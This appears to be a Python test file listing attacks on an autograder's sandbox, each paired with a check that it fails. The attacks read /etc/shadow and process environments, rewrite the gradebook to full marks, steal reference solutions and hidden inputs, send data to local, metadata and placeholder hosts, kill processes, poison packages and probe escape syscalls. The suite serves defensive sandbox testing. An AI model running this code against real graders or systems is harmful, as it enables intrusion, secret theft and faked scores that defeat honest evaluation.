"""Reading what is not one's own: files, processes, the gradebook, the network, the judge."""

from __future__ import annotations

from tests.attacks.attack import (  # fmt: skip
    ALL,
    BACK,
    CELL,
    FORWARD,
    STEP,
    Attack,
    Outcome,
    Proof,
    beside,
    lying,
    says,
    shows_nothing,
)

ZEROS = "np.zeros(np.shape(like))"


def reads(name: str, tries: str, code: str, proof: Proof | None = None) -> Attack:
    """Runs `code`, prints what it found, and answers with zeros."""
    body = "\n".join(f"    {line}" for line in code.splitlines())
    prelude = (
        f"import os, sys\ntry:\n{body}\nexcept Exception as error:\n    print(repr(error)[:300])"
    )
    return Attack(name, tries, 0.0, cells=lying(prelude, ZEROS), proof=proof or shows_nothing())


def harmless(name: str, tries: str, code: str, proof: Proof | None = None) -> Attack:
    """Runs `code` beside right solutions."""
    return Attack(name, tries, ALL, solved=True, cells={STEP: beside(STEP, code)},
                  proof=proof or shows_nothing())  # fmt: skip


def no_hidden_input(outcome: Outcome) -> None:
    hidden = outcome.world["HIDDEN"].split()
    assert len(hidden) > 100
    assert "recorded" in outcome.printed
    assert not [value for value in hidden if value in outcome.printed]


RECORD = """recorded = []
_right = lstm_step_forward


def lstm_step_forward(*args):
    recorded.extend(float(v).hex() for a in args for v in np.ravel(a))
    return _right(*args)
"""

ATTACKS = (
    reads("files", "prints every file that staff have and students have not",
          "for path in ('@CANARY@/secret.txt', '@COURSE@/.autograder/seeds.json',\n"
          "             '@COURSE@/gradebook.db', '@OTHER@', '@CHECKOUT@/solutions/lstm/reference.py',\n"
          "             '/etc/shadow', '/root/.bash_history', '/proc/1/environ',\n"
          "             '/proc/self/root/@CANARY@/secret.txt', '/proc/1/root/@CANARY@/secret.txt',\n"
          "             '/proc/1/cwd/gradebook.db'):\n"
          "    try:\n"
          "        print(path, open(path, errors='replace').read()[:2000])\n"
          "    except OSError as error:\n"
          "        print(error.strerror)"),
    reads("walks", "walks through all folders that there are, for names that it wants",
          "wanted = ('secret.txt', 'seeds.json', 'gradebook.db', 'lstm.jsonl', 'lstm_gates.py')\n"
          "for top in ('/home', '/tmp', '/work', '/root', '/srv', '/mnt', '/opt', '/var', '/run',\n"
          "            '/dev', '@CHECKOUT@'):\n"
          "    for parent, folders, files in os.walk(top):\n"
          "        folders[:] = [f for f in folders if f not in ('lib', 'proc', 'site-packages')]\n"
          "        print([f'FOUND {f}' for f in files if f in wanted], end='')",
          shows_nothing("FOUND")),
    reads("environment", "prints the environment of every process that it sees",
          "import glob\n"
          "print(dict(os.environ))\n"
          "for name in glob.glob('/proc/[0-9]*/environ'):\n"
          "    print(open(name, errors='replace').read())"),
    reads("other-kernels", "looks for sockets and processes of other kernels and of the grader",
          "import glob\n"
          "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
          "print('SEES', len(pids) > 8)\n"
          "print([open(f'/proc/{p}/cmdline').read() for p in pids])\n"
          "print(glob.glob('/tmp/autograder-*'), open('/proc/net/unix').read().count('warm'))\n"
          "print('KERNELS', len({p.rpartition('-')[0] for p in glob.glob('/run/kernel/*-1')}))",
          says("SEES False", "KERNELS 1")),
    reads("gradebook", "opens the gradebook and gives itself all points",
          "import sqlite3\n"
          "book = sqlite3.connect('@COURSE@/gradebook.db')\n"
          "book.execute('update grade set manual_score = 100')\n"
          "book.commit()\n"
          "print('WRITTEN')", shows_nothing("WRITTEN")),
    reads("solutions", "imports the references, the judge and what it knows",
          "for name in ('solutions', 'solutions.lstm.reference', 'autograder.grader.references',\n"
          "             'autograder.grader.judge', 'autograder.grader.judge.judge', 'autograder.grader.grading.job'):\n"
          "    try:\n"
          "        module = __import__(name, fromlist=['x'])\n"
          "        print(name, 'imported')\n"
          "        if hasattr(module, 'text'): print(module.text('lstm'))\n"
          "        if hasattr(module, 'Judge'): print('JUDGE', module.Judge('lstm', 1))\n"
          "    except BaseException as error:\n"
          "        print(name, type(error).__name__)",
          shows_nothing("JUDGE", "def lstm_step_forward(\\n    x")),
    reads("frames", "walks up the frames and through all objects for expected values",
          "import gc, inspect\n"
          "frame, names = sys._getframe(), set()\n"
          "while frame:\n"
          "    names |= set(frame.f_locals) | set(frame.f_globals)\n"
          "    frame = frame.f_back\n"
          "kinds = {type(o).__name__ for o in gc.get_objects()}\n"
          "print('FOUND', sorted((names | kinds) & {'Judge', '_Room', 'expected', 'seed', '_expected'}))",
          says("FOUND []")),
    Attack("frames-when-called", "walks up the frames while it is asked, and answers what it finds",
           0.0, statuses={STEP: "wrong"},
           cells=lying("import gc, sys\n"
                       "def hunt(like):\n"
                       "    frame = sys._getframe()\n"
                       "    while frame:\n"
                       "        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:\n"
                       "            if type(value).__name__ in ('Judge', 'Expected', '_Room'):\n"
                       "                raise SystemExit('FOUND ' + repr(value))\n"
                       "        frame = frame.f_back\n"
                       "    return np.zeros(np.shape(like))", "hunt(like)"),
           proof=shows_nothing("FOUND")),
    reads("history", "reads the history of this and of other sessions",
          "ip = get_ipython()\n"
          "print(list(ip.history_manager.get_range_by_str('~100/1-'))[:100], ip.user_ns.get('In'))"),
    reads("network", "sends a secret to every address of this machine and of others",
          "import socket\n"
          "def attempt(family, kind, address):\n"
          "    try:\n"
          "        s = socket.socket(family, kind)\n"
          "        s.settimeout(0.3)\n"
          "        s.connect(address)\n"
          "        s.send(b'from a student')\n"
          "        print('REACHED', address)\n"
          "    except OSError as error:\n"
          "        print(type(error).__name__)\n"
          "T, U, P = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET\n"
          "for host in ('127.0.0.1', '0.0.0.0', '169.254.169.254', '192.0.2.1'):\n"
          "    attempt(socket.AF_INET, T, (host, @TCP@))\n"
          "attempt(socket.AF_INET6, T, ('::1', @TCP@))\n"
          "attempt(socket.AF_UNIX, T, '\\0@ABSTRACT@')\n"
          "attempt(socket.AF_UNIX, T, '@SOCKET@')\n"
          "attempt(socket.AF_VSOCK, T, (2, @TCP@))\n"
          "attempt(socket.AF_VSOCK, T, (1, @TCP@))", shows_nothing("REACHED")),
    reads("datagrams", "sends datagrams, which no answer betrays",
          "import socket\n"
          "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
          "for host in ('127.0.0.1', '255.255.255.255', '224.0.0.1'):\n"
          "    try:\n"
          "        s.sendto(b'from a student', (host, @UDP@))\n"
          "    except OSError as error:\n"
          "        print(type(error).__name__)"),
    reads("names", "asks for the address of a name, which is a message in itself",
          "import socket\n"
          "print('REACHED', socket.getaddrinfo('secret.example.org', 80))",
          shows_nothing("REACHED")),
    reads("raw-sockets", "opens raw, packet, netlink and kernel-crypto sockets",
          "import socket\n"
          "for family, kind, protocol in ((2, 3, 1), (17, 3, 768), (16, 3, 9), (16, 3, 15),\n"
          "                               (38, 5, 0), (40, 1, 0), (44, 2, 0)):\n"
          "    try:\n"
          "        socket.socket(family, kind, protocol)\n"
          "        print('REACHED', family)\n"
          "    except OSError as error:\n"
          "        print(type(error).__name__)", shows_nothing("REACHED")),
    Attack("signals", "kills every process that it can name, and can name none but its own",
           ALL, solved=True,
           cells={CELL: beside(CELL, "import os, time\n"
                               "own = set(map(int, os.listdir('/proc/self/task')))\n"
                               "for pid in set(range(1, 40_000)) - own:\n"
                               "    try:\n"
                               "        os.kill(pid, 9)\n"
                               "    except OSError:\n"
                               "        pass\n"
                               "time.sleep(1)")}),
    Attack("kill-all", "kills all processes at once", ALL, solved=True,
           cells={CELL: beside(CELL, "import os\nos.kill(-1, 9)\nos.kill(1, 9)\nos.kill(0, 9)")},
           statuses={CELL: "correct"}),
    harmless("traces", "traces and reads the memory of the first process",
             "import ctypes, os\n"
             "libc = ctypes.CDLL(None, use_errno=True)\n"
             "print('TRACED', libc.ptrace(16, 1, 0, 0) == 0)\n"
             "try:\n"
             "    print('TRACED', bool(open('/proc/1/mem', 'rb').read(1)))\n"
             "except OSError as error:\n"
             "    print(type(error).__name__)", shows_nothing("TRACED True")),
    harmless("poisons-packages", "changes numpy, autograder and Python for those who come after it",
             "import os, sys, autograder\n"
             "for place in (np.__file__, autograder.__file__, os.__file__, sys.executable,\n"
             "              '@CHECKOUT@/autograder/poison.py', sys.prefix + '/poison.pth',\n"
             "              '/etc/profile', '/usr/lib/poison', '/proc/sys/kernel/core_pattern'):\n"
             "    try:\n"
             "        os.chmod(place, 0o777)\n"
             "    except OSError:\n"
             "        pass\n"
             "    try:\n"
             "        open(place, 'a').write('# poisoned')\n"
             "        print('POISONED', place)\n"
             "    except OSError:\n"
             "        pass", shows_nothing("POISONED")),
    harmless("leaves-answers", "leaves its right solution where another submission can find it",
             "import inspect, os\n"
             "for place in ('/tmp', '/dev/shm', '/home/student', '/run/kernel', '/var/tmp',\n"
             "              '@CANARY@'):\n"
             "    try:\n"
             "        os.chmod(place, 0o777)\n"
             "        open(place + '/answer.py', 'w').write(In[-1])\n"
             "    except (OSError, NameError):\n"
             "        pass"),
    reads("takes-answers", "takes the solution that another submission has left",
          "import glob, time\n"
          "for _ in range(10):\n"
          "    print(glob.glob('/tmp/*.py') + glob.glob('/dev/shm/*') + glob.glob('/var/tmp/*'))\n"
          "    print(glob.glob('/home/student/*'), glob.glob('/run/kernel/*.py'))\n"
          "    time.sleep(0.1)", shows_nothing("answer.py")),
    Attack("prints-inputs", "prints in a later cell the hidden inputs that it was called with", ALL,
           solved=True,
           cells={STEP: beside(STEP, "") + f"\n\n{RECORD}",
                  BACK: beside(BACK, "print('recorded', len(recorded), *recorded[:200])"),
                  FORWARD: beside(FORWARD, "print('recorded', *recorded[200:400])"),
                  CELL: beside(CELL, "print('recorded', recorded[-200:])")},
           proof=no_hidden_input),
    Attack("raises-inputs", "raises the hidden inputs in a later cell, as the text of an exception",
           ALL, solved=True,
           cells={STEP: beside(STEP, "") + f"\n\n{RECORD}",
                  BACK: beside(BACK, "print('recorded')") +
                  "\n\nraise type(recorded[0] if recorded else 'Nothing', (Exception,), {})("
                  "' '.join(recorded))"},
           statuses={BACK: "correct"}, proof=no_hidden_input),
    Attack("hides-inputs", "keeps the hidden inputs in a file, for its next kernel to print", 9.0,
           solved=True,
           cells={STEP: beside(STEP, "") + f"\n\n{RECORD}",
                  FORWARD: beside(FORWARD, "open('/tmp/kept', 'w').write(' '.join(recorded))"),
                  CELL: "import os\nprint('recorded', os.path.exists('/tmp/kept') and "
                        "open('/tmp/kept').read())\nos._exit(1)"}),
    reads("escapes", "makes namespaces, mounts, loads code and takes rights",
          "import ctypes\n"
          "libc = ctypes.CDLL(None, use_errno=True)\n"
          "calls = {'unshare': 272, 'mount': 165, 'bpf': 321, 'keyctl': 250, 'setns': 308,\n"
          "         'pivot_root': 155, 'chroot': 161, 'io_uring': 425, 'userfaultfd': 323,\n"
          "         'perf': 298, 'memfd': 319, 'init_module': 175, 'kexec': 246}\n"
          "for name, number in calls.items():\n"
          "    if libc.syscall(number, 0, 0, 0, 0, 0) >= 0:\n"
          "        print('ESCAPED', name)\n"
          "for call in (lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.nice(-5)):\n"
          "    try:\n"
          "        call()\n"
          "        print('ESCAPED')\n"
          "    except OSError:\n"
          "        pass", shows_nothing("ESCAPED")),
)  # fmt: skip
